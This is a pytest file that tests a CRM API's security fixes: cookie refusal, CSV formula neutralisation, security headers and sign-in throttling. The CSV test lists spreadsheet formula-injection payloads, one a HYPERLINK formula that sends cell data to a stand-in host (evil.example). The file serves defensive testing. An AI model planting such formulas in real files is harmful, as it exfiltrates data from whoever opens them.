"""Issue #15 on the API: no cookie auth, CSV formulas neutralised, security headers,
sign-in throttling (items 2, 3, 4, 5), against the real server."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from aicrm.api._security import HEADERS
from tests.api.conftest import Live, assert_problem, unique


def from_address(live: Live, address: str, **kwargs: object) -> httpx.Client:
    """A client whose requests come from another loopback address (another client)."""
    transport = httpx.HTTPTransport(local_address=address)
    made = httpx.Client(base_url=live.url, transport=transport, timeout=60, **kwargs)  # type: ignore[arg-type]
    live.clients.append(made)
    return made


def new_lead(api: httpx.Client, **values: object) -> str:
    answer = api.post("/api/leads", json={"email": f"{unique()}@example.com", **values})
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def test_the_api_refuses_the_dashboard_cookie(live: Live, api: httpx.Client) -> None:
    lead = new_lead(api)
    forged = live.client(None, cookies={"aicrm_key": live.tokens["admin"]})
    for path, body in (
        (f"/api/leads/{lead}/convert", b""),
        ("/api/leads/import", b"email\nx@y.z\n"),
    ):
        answer = forged.post(
            path,
            content=body,
            headers={"Origin": "http://127.0.0.1:9999", "Content-Type": "text/plain"},
        )
        assert_problem(answer, 401)
    assert api.get(f"/api/leads/{lead}").json()["is_converted"] is False
    assert live.db.scalar("SELECT count(*) FROM leads WHERE email = 'x@y.z'") == 0
    # The documented headers still work.
    keyed = live.client(None, headers={"X-API-Key": live.tokens["read"]})
    assert keyed.get(f"/api/leads/{lead}").status_code == 200


def test_csv_export_neutralises_formulas_unless_raw(live: Live, api: httpx.Client) -> None:
    source = unique("csv")
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR"]  # fmt: skip
    for name in evil:
        new_lead(api, first_name=name, source=source)
    safe = api.get("/api/leads/export", params={"source": source})
    assert safe.status_code == 200, safe.text
    firsts = [row["first_name"] for row in csv.DictReader(io.StringIO(safe.text))]
    assert len(firsts) == len(evil)
    assert all(value[:1] not in "=+-@\t\r" for value in firsts), firsts
    raw = api.get("/api/leads/export", params={"source": source, "raw": "true"})
    assert sorted(row["first_name"] for row in csv.DictReader(io.StringIO(raw.text))) == sorted(
        evil
    )


@pytest.mark.parametrize("path", ["/api/ping", "/api/leads", "/login", "/docs", "/nowhere"])
def test_every_answer_has_the_security_headers(live: Live, path: str) -> None:
    answer = live.client("read").get(path)
    for name, value in HEADERS.items():
        assert answer.headers.get(name) == value, (path, name, answer.status_code)
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert "unsafe-inline" not in answer.headers["content-security-policy"]


def test_repeated_failed_sign_ins_are_throttled_per_client(live: Live) -> None:
    wrong = "aicrm_0000000000_" + "x" * 43
    attacker = from_address(live, "127.0.0.2", headers={"Authorization": f"Bearer {wrong}"})
    codes = [attacker.get("/api/leads").status_code for _ in range(12)]
    assert codes[:10] == [401] * 10 and codes[10:] == [429, 429], codes
    refused = attacker.get("/api/leads")
    body = assert_problem(refused, 429)
    assert 1 <= int(refused.headers["Retry-After"]) <= 60 and "try again" in body["detail"]
    # Even the right key waits, from that address; the dashboard's form too.
    right = {"Authorization": f"Bearer {live.tokens['read']}"}
    assert attacker.get("/api/leads", headers=right).status_code == 429
    form = attacker.post("/login", data={"key": live.tokens["read"]})
    assert form.status_code == 429 and "Retry-After" in form.headers
    # Another client with the right key is not affected.
    other = from_address(live, "127.0.0.3", headers=right)
    assert other.get("/api/leads").status_code == 200


def test_the_login_form_is_throttled_too(live: Live) -> None:
    browser = from_address(live, "127.0.0.4")
    wrong = {"key": "aicrm_0000000000_" + "y" * 43}
    codes = [browser.post("/login", data=wrong).status_code for _ in range(11)]
    assert codes == [401] * 10 + [429], codes
    # A wrong cookie on a page (answered by a redirect to the form) counts as well.
    cookie = from_address(live, "127.0.0.5", cookies={"aicrm_key": wrong["key"]})
    codes = [cookie.get("/leads").status_code for _ in range(11)]
    assert codes == [303] * 10 + [429], codes


def test_bulk_conversion_by_filter_takes_open_leads_only(live: Live, api: httpx.Client) -> None:
    source = unique("bulk")
    made = {status: new_lead(api, source=source, status=status)
            for status in ("new", "qualified", "lost", "unqualified")}  # fmt: skip
    done = api.post("/api/leads/convert", json={"filter": {"source": source}})
    assert done.status_code == 200 and done.json()["converted"] == 2, done.text
    for status, lead in made.items():
        converted = api.get(f"/api/leads/{lead}").json()["is_converted"]
        assert converted == (status in ("new", "qualified")), status
    closed = {"filter": {"source": source, "include_closed": True}}
    assert api.post("/api/leads/convert", json=closed).json()["converted"] == 2


def test_even_an_internal_error_has_the_security_headers(live: Live) -> None:
    from fastapi.testclient import TestClient

    from aicrm.server import create_app

    app = create_app(live.db.target(), pool_size=1)

    @app.get("/api/boom")
    def boom() -> None:
        raise RuntimeError("a bug")

    with TestClient(app, raise_server_exceptions=False) as client:
        answer = client.get("/api/boom")
    assert answer.status_code == 500 and answer.json()["status"] == 500
    for name, value in HEADERS.items():
        assert answer.headers.get(name) == value, name
